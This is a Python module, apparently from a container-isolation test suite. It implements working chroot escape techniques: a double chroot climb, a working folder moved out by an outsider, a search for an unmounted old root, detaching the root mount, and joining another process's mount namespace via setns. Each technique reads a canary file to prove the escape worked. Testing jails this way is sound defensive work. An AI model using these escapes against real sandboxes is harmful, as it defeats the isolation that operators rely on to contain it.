"""Ways past the root folder itself: what ``/`` and ``..`` mean. See chroot(2), pivot_root(2), setns(2)."""

from __future__ import annotations

import os

from section02_namespaces import CLONE_NEWNS
from section02_namespaces import setns as join
from section02_namespaces import unshare as leave
from section04_filesystem import _syscalls

from ..model import Stopped, trying

TYPE_CHECKING = False
if TYPE_CHECKING:
    from ..inside import Inside

_DEEP = 64
_MNT_DETACH = 2


def read(path: str, *, dir_fd: int | None = None, about: str = "") -> str:
    """Return the content of the canary at ``path``; raise Stopped."""
    with trying("open", about=about or "canary"):
        fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC, dir_fd=dir_fd)
    try:
        return os.read(fd, 256).decode(errors="replace")
    finally:
        os.close(fd)


def first_of(*ways: object) -> str:
    """Return what the first way that works gets; if none does, raise what stopped the first."""
    stopped: Stopped | None = None
    for way in ways:
        try:
            return str(way())  # type: ignore[operator]
        except Stopped as error:
            stopped = stopped or error
    raise stopped or Stopped("nothing to try")


def double_chroot(inside: Inside) -> str:
    """Change the root a second time, then climb.

    chroot(2) moves the root and leaves the working folder where it is. Whoever may call it again (CAP_SYS_CHROOT)
    moves the root below himself; `..` then never meets the root, and climbs to the top of the mount namespace.
    After pivot_root the top *is* the jail's root, so the climb ends there.
    """
    below = f"{inside.work}/below"
    os.makedirs(below, exist_ok=True)
    os.chdir("/")
    with trying("chroot", "CAP_SYS_CHROOT"):
        os.chroot(below)
    for _ in range(_DEEP):
        os.chdir("..")
    with trying("chroot", "CAP_SYS_CHROOT"):
        os.chroot(".")
    return read(inside.canary)


def rename_out(inside: Inside) -> str:
    """Climb from a working folder that an outsider moves out.

    `..` stops where it *meets* the root folder. When somebody outside moves our working folder out of the jail, we
    are below the root no more, and `..` leads to wherever we are now: no privilege needed. A root that is a mount
    of its own stops it: the kernel refuses `..` that leaves a mount's own tree (ENOENT), and nothing can be moved
    out of a file system of its own (EXDEV).
    """
    folder = f"{inside.work}/deep"
    os.makedirs(folder, exist_ok=True)
    os.chdir(folder)
    answer = inside.ask("rename-out", path=folder)
    if answer.get("errno"):
        raise Stopped("rename", answer["errno"], about="moved out")
    return read("../canary", about="..")


def old_root(inside: Inside) -> str:
    """Look for the old root, left mounted somewhere below /.

    pivot_root(2) puts the old root somewhere; a runtime that forgets to unmount it has moved the furniture and left
    the door open. We look below every mount point that we see, and then try to take away what covers our root.
    """

    def below_a_mount() -> str:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="surrogateescape") as file:
            targets = [line.split()[4] for line in file]
        for target in targets:
            if target != "/" and os.path.exists(target + inside.canary):
                return read(target + inside.canary)
        raise Stopped("open", 2, about="old root")

    def under_our_feet() -> str:
        with trying("unshare", "CAP_SYS_ADMIN"):
            leave(CLONE_NEWNS)  # a copy: what we take away here would be missed by the attempts after us
        with trying("umount", "CAP_SYS_ADMIN", "root"):
            _syscalls.umount2(b"/", _MNT_DETACH)
        os.chdir("/..")
        return read("." + inside.canary)

    return first_of(below_a_mount, under_our_feet)


def setns(inside: Inside) -> str:
    """Join a mount namespace: that resets the root.

    Joining a mount namespace sets root and working folder to that namespace's root, even when it is one's own: so a
    chroot is left by `setns(/proc/self/ns/mnt)`. It takes CAP_SYS_ADMIN over that namespace; with a user namespace
    one may make a copy first and owns that. After pivot_root one's own namespace ends at the jail, and /proc shows
    no other.
    """

    def joined(path: str, *, copied: bool = False) -> str:
        if copied:
            with trying("unshare", "CAP_SYS_ADMIN"):
                leave(CLONE_NEWNS)
        with trying("open", about="ns"):
            fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
        with trying("setns", "CAP_SYS_ADMIN"):
            join(fd, CLONE_NEWNS)
        return read(inside.canary)

    return first_of(
        lambda: joined("/proc/self/ns/mnt"),
        lambda: joined("/proc/1/ns/mnt"),
        lambda: joined(f"/proc/{inside.world['outsider']}/ns/mnt"),
        lambda: joined("/proc/self/ns/mnt", copied=True),
    )
